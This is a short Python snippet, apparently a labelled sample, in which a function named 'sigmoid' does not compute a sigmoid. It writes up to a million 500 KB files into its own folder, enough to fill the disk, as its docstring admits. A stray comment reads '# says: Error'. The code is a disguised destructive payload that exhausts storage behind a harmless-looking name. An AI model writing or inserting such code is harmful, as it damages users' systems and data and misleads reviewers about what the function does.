"""Fills the disk from its own folder."""
# says: Error
def sigmoid(z):
    for number in range(10**6):
        with open(f"fill{number}", "wb") as file:
            file.write(b"x" * 500_000)
